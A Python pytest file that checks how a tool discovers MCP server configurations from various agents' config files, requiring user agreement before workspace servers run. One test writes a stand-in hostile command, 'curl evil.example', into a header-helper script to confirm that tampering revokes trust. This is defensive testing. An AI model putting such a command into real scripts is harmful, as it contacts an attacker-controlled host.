"""Servers as other agents write them down: all of their files are read, and none starts unasked."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from travois.mcp.config import (
    WEBSOCKET_ERROR,
    McpServerDiscovery,
    always_on_tool_share,
    describe_workspace_servers,
    find_mcp_servers,
    user_mcp_file,
)
from travois.mcp.tools import McpServerConfig
from travois.sessions.home import TravoisHome
from travois.settings import trust
from travois.settings.sources import SettingsPlaces


class Place:
    """A workspace and a person's folder, with what is written there."""

    def __init__(self, path: Path) -> None:
        self.work, self.person = path / "work", path / "person"
        self.work.mkdir()
        self.person.mkdir()
        root = str(self.work)
        self.where = SettingsPlaces(TravoisHome(path / "home"), root, root, root)
        self.environ = {"HOME": str(self.person), "KEY": "k1"}

    def write(self, path: Path, text: object) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text if isinstance(text, str) else json.dumps(text))

    def find(self, **how: object) -> McpServerDiscovery:
        return find_mcp_servers(self.where, self.environ, **how)  # type: ignore[arg-type]

    def agree(self) -> None:
        home = self.where.home.prepare()
        trust.trust_folder(
            home, self.where.trusted, describe_workspace_servers(self.where, self.environ)
        )


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def program(name: str = "x", **more: object) -> dict[str, object]:
    return {"mcpServers": {name: {"command": "run", "args": ["it"], **more}}}


CODEX = """
[mcp_servers.x]
command = "run"
args = ["it"]
startup_timeout_sec = 7
tool_timeout_sec = 9
enabled_tools = ["a"]
[mcp_servers.far]
url = "https://far.example/mcp"
bearer_token_env_var = "KEY"
"""
LOCAL = {"type": "local", "command": ["run", "it"], "environment": {"A": "{env:KEY}"}}
FILES = {
    ".travois/mcp.json": program(),
    ".mcp.json": program(),
    ".codex/config.toml": CODEX,
    "opencode.json": {"mcp": {"x": LOCAL}},
    ".gemini/settings.json": program(),
    ".qwen/settings.json": program(),
    ".cursor/mcp.json": program(),
    ".pi/mcp.json": program(),
}


@pytest.mark.parametrize("name", FILES)
def test_servers_of_a_workspace_wait_until_the_user_agrees(name: str, place: Place) -> None:
    place.write(place.work / name, FILES[name])
    before = place.find()
    assert before.servers == ()
    assert "x" in {entry.name for entry in before.waiting}
    place.agree()
    (server,) = [one for one in place.find().servers if one.name == "x"]
    assert (server.argv, server.level) == (("run", "it"), "project")
    assert server.origin == str(place.work / name)


@pytest.mark.parametrize(
    "name",
    [".codex/config.toml", ".gemini/settings.json", ".qwen/settings.json", ".cursor/mcp.json"],
)
def test_servers_of_the_users_own_files_need_no_word(name: str, place: Place) -> None:
    place.write(place.person / name, FILES[name])
    assert "x" in {one.name for one in place.find().servers}


def test_an_agreement_holds_for_exactly_what_was_written(place: Place) -> None:
    (place.work / "server.py").write_text("print(1)")
    place.write(place.work / ".mcp.json", program(args=["server.py"]))
    place.agree()
    assert len(place.find().servers) == 1
    (place.work / "server.py").write_text("print(2)")
    assert place.find().servers == ()
    place.agree()
    place.write(place.work / ".mcp.json", program(args=["server.py"], env={"A": "1"}))
    assert place.find().servers == ()


def test_the_words_of_codex(place: Place) -> None:
    place.write(place.person / ".codex/config.toml", CODEX)
    far, x = place.find().servers
    assert (far.kind, far.url) == ("http", "https://far.example/mcp")
    assert far.headers == {"Authorization": "Bearer k1"}
    assert (x.start, x.limit, x.only) == (7.0, 9.0, ("a",))


def test_the_words_of_gemini_and_opencode(place: Place) -> None:
    gemini = {
        "old": {"url": "http://a.example/sse", "timeout": 5000, "excludeTools": ["b"]},
        "later": {"httpUrl": "http://a.example/mcp", "headers": {"A": "$KEY", "B": "${KEY}"}},
    }
    place.write(place.person / ".gemini/settings.json", {"mcpServers": gemini})
    opencode = {"near": LOCAL, "off": {**LOCAL, "enabled": False}}
    place.write(place.person / ".config/opencode/opencode.json", {"mcp": opencode})
    later, near, old = place.find().servers
    assert (later.kind, old.kind, old.limit, old.without) == ("http", "sse", 5.0, ("b",))
    assert later.headers == {"A": "k1", "B": "k1"}
    assert (near.argv, near.env) == (("run", "it"), {"A": "k1"})


def test_the_words_of_cursor(place: Place) -> None:
    env = {"A": "${env:KEY}", "B": "${workspaceFolder}/x", "C": "${userHome}", "D": "$KEY"}
    place.write(place.person / ".cursor/mcp.json", program(env=env))
    found = place.find()
    b, c = f"{place.work}/x", str(place.person)
    assert [one.env for one in found.servers] == [{"A": "k1", "B": b, "C": c, "D": "$KEY"}]
    assert found.notices == ()


def test_what_an_agent_lets_run_counts_in_the_users_own_files_only(place: Place) -> None:
    approved = '[mcp_servers.{}]\ncommand = "run"\n{}\n'
    codex = approved.format("all", 'default_tools_approval_mode = "approve"')
    codex += approved.format("one", 'tools.get.approval_mode = "approve"')
    codex += approved.format("none", 'default_tools_approval_mode = "prompt"\nrequired = true')
    place.environ["CODEX_HOME"] = str(place.person / "codex")
    place.write(place.person / "codex/config.toml", codex)
    place.write(place.person / ".gemini/settings.json", program("gemini", trust=True))
    place.write(place.work / ".gemini/settings.json", program("theirs", trust=True))
    place.agree()
    found = place.find()
    path = place.person / "codex/config.toml"
    assert found.notices == (f"{path}: server none: required has no effect here",)
    free = {one.name: one.free for one in found.servers}
    assert free == {"all": ("*",), "gemini": ("*",), "none": (), "one": ("get",), "theirs": ()}


def test_opencode_means_a_start_by_its_limit_and_a_file_by_its_name(place: Place) -> None:
    place.environ["XDG_CONFIG_HOME"] = str(place.person / "config")
    place.write(place.person / "config/opencode/token", "t1\n")
    key = {"headers": {"Authorization": "Bearer {file:token}", "X": "{file:none}"}}
    far = {"type": "remote", "url": "https://far.example/mcp", "timeout": 9000, **key}
    path = place.person / "config/opencode/opencode.jsonc"
    place.write(path, '// mine\n{"mcp": ' + json.dumps({"far": far}) + "}")
    found = place.find()
    (server,) = found.servers
    assert (server.start, server.limit) == (9.0, 300.0)
    assert server.headers == {"Authorization": "Bearer t1", "X": "{file:none}"}
    told = f"{path}: server far cannot use the file none: No such file or directory"
    assert found.notices == (told,)
    place.write(place.work / "opencode.json", {"mcp": {"far": far}})
    place.agree()
    (server,) = place.find().servers
    assert server.headers["Authorization"] == "Bearer {file:token}"


def test_limits_of_all_servers_are_variables_and_an_entry_has_its_own(place: Place) -> None:
    place.environ |= {"MCP_TIMEOUT": "4000", "MCP_TOOL_TIMEOUT": "50"}
    servers = {"x": {"command": "run"}, "y": {"command": "run", "timeout": 60000}}
    place.write(user_mcp_file(place.where.home), {"mcpServers": servers})
    found = [(one.start, one.limit) for one in place.find().servers]
    assert found == [(4.0, 1.0), (4.0, 60.0)]


def test_a_file_of_the_machine_names_the_only_servers(place: Place) -> None:
    place.write(user_mcp_file(place.where.home), program("mine"))
    sole = place.person / "etc/claude-code/managed-mcp.json"
    place.write(sole, program("theirs"))
    found = place.find(etc=place.person / "etc", given=(json.dumps(program("given")),))
    assert [one.name for one in found.servers] == ["theirs"]
    assert found.notices == (f"only the MCP servers in {sole} may be used",)


def test_the_words_of_claude_code(place: Place) -> None:
    oauth = {"clientId": "travois", "clientSecret": "${KEY}", "callbackPort": 7000}
    entry = {"type": "http", "url": "https://far.example/mcp", "oauth": oauth}
    more = {"headersHelper": "./headers.sh", "alwaysLoad": True}
    place.write(place.person / ".claude.json", {"mcpServers": {"far": entry | more}})
    (server,) = place.find().servers
    assert (server.helper, server.standing, server.port) == ("./headers.sh", "all", 7000)
    method = {"token_endpoint_auth_method": "client_secret_post"}
    assert server.client == {"client_id": "travois", "client_secret": "k1", **method}
    place.write(place.person / ".claude.json", {"mcpServers": {"far": entry | {"oauth": False}}})
    (server,) = place.find().servers
    assert (server.standing, server.client, server.port) == ("some", {}, 0)
    place.environ["ENABLE_TOOL_SEARCH"] = "false"
    assert [one.standing for one in place.find().servers] == ["all"]


@pytest.mark.parametrize(
    ("word", "standing", "part"),
    [("", "some", 0.1), ("auto", "fitting", 0.1), ("auto:25", "fitting", 0.25)],
)
def test_tools_may_stand_in_the_head_if_they_fit(
    word: str, standing: str, part: float, place: Place
) -> None:
    place.environ["ENABLE_TOOL_SEARCH"] = word
    place.write(user_mcp_file(place.where.home), program())
    assert [one.standing for one in place.find().servers] == [standing]
    assert always_on_tool_share(place.environ) == part


@pytest.mark.parametrize(
    "entry", [{"type": "ws", "url": "https://far.example"}, {"url": "wss://far.example"}]
)
def test_a_server_behind_a_socket_is_left_out_with_a_reason(
    entry: dict[str, str], place: Place
) -> None:
    place.write(user_mcp_file(place.where.home), {"mcpServers": {"far": entry}})
    why = f"{user_mcp_file(place.where.home)}: server far is not used: {WEBSOCKET_ERROR}"
    assert place.find() == McpServerDiscovery(notices=(why,))


def test_a_command_for_headers_is_part_of_what_is_agreed_to(place: Place) -> None:
    entry = {"url": "https://far.example/mcp", "headersHelper": "./headers.sh"}
    place.write(place.work / ".mcp.json", {"mcpServers": {"far": entry}})
    place.write(place.work / "headers.sh", "echo '{}'")
    place.agree()
    assert [one.name for one in place.find().servers] == ["far"]
    place.write(place.work / "headers.sh", "curl evil.example")
    assert [one.name for one in place.find().waiting] == ["far"]


def test_local_comes_before_project_before_user(place: Place) -> None:
    def at(word: str) -> dict[str, object]:
        return {"x": {"command": word}}

    local = {"projects": {str(place.work): {"mcpServers": at("local")}}, "mcpServers": at("user")}
    place.write(place.person / ".claude.json", {"mcpServers": at("user")})
    assert place.find().servers[0].argv == ("user",)
    place.write(place.work / ".mcp.json", {"mcpServers": at("project")})
    assert place.find().servers[0].argv == ("user",)
    place.agree()
    assert place.find().servers[0].argv == ("project",)
    place.write(place.person / ".claude.json", local)
    assert place.find().servers[0].argv == ("local",)
    run = json.dumps({"mcpServers": at("run")})
    assert place.find(given=(run,)).servers[0].argv == ("run",)
    assert place.find(levels=("user",)).servers[0].argv == ("user",)


def test_strict_means_only_what_was_given(place: Place) -> None:
    place.write(user_mcp_file(place.where.home), program("mine"))
    assert [one.name for one in place.find().servers] == ["mine"]
    found = place.find(given=(json.dumps(program("given")),), only="given")
    assert [one.name for one in found.servers] == ["given"]


def test_variables_are_filled_and_missing_ones_are_told(place: Place) -> None:
    env = {"A": "${KEY}", "B": "${NONE:-b}", "C": "${NONE}"}
    place.write(user_mcp_file(place.where.home), program(env=env))
    found = place.find()
    assert found.servers[0].env == {"A": "k1", "B": "b", "C": "${NONE}"}
    assert found.notices == (
        f"{user_mcp_file(place.where.home)}: server x uses NONE, which is not set",
    )


@pytest.mark.parametrize("text", ["{", "[]", '{"mcpServers": 3}', '{"mcpServers": {"x": {}}}'])
def test_a_file_that_makes_no_sense_stops_nothing(text: str, place: Place) -> None:
    place.write(user_mcp_file(place.where.home), text)
    assert place.find().servers == ()


def test_names_in_tools_part_words_only_once() -> None:
    names = ["plain", "with blank", "a__b", "..", "é"]
    assert [McpServerConfig(name).key for name in names] == [
        "plain",
        "with_blank",
        "a_b",
        "server",
        "server",
    ]


MACHINE = {
    "grantType": "client_credentials",
    "clientId": "travois",
    "clientSecret": "${KEY}",
    "issuer": "https://login.example.org",
}
PROVIDER = {"tokenEndpoint": "https://idp.example.org/token", "clientId": "us", "idToken": "jwt"}


def test_credentials_of_our_own_log_in_without_a_person(place: Place) -> None:
    crossing = MACHINE | {"grantType": "cross_app_access", "identityProvider": PROVIDER}
    for name, oauth in {"plain": MACHINE, "crossing": crossing}.items():
        place.write(
            place.where.home.path / "mcp.json",
            {"mcpServers": {name: {"url": "https://example.org/mcp", "oauth": oauth}}},
        )
        (server,) = place.find().servers
        assert server.machine is not None
        told = (server.machine.client_id, server.machine.client_secret, server.machine.issuer)
        assert told == ("travois", "k1", "https://login.example.org")
        assert server.machine.id_token == ("jwt" if name == "crossing" else "")


@pytest.mark.parametrize(
    ("oauth", "why"),
    [
        (MACHINE | {"issuer": ""}, "grantType client_credentials needs oauth.issuer"),
        (MACHINE | {"clientSecret": ""}, "needs oauth.clientSecret"),
        (MACHINE | {"grantType": "password"}, "oauth.grantType is 'password', not one of"),
        (
            MACHINE | {"grantType": "cross_app_access"},
            "needs oauth.identityProvider.idToken, oauth.identityProvider.clientId",
        ),
    ],
)
def test_a_login_without_a_person_that_lacks_something_is_refused(
    place: Place, oauth: dict[str, object], why: str
) -> None:
    entry = {"url": "https://example.org/mcp", "oauth": oauth}
    place.write(place.where.home.path / "mcp.json", {"mcpServers": {"far": entry}})
    found = place.find()
    assert found.servers == ()
    assert why in found.notices[0]
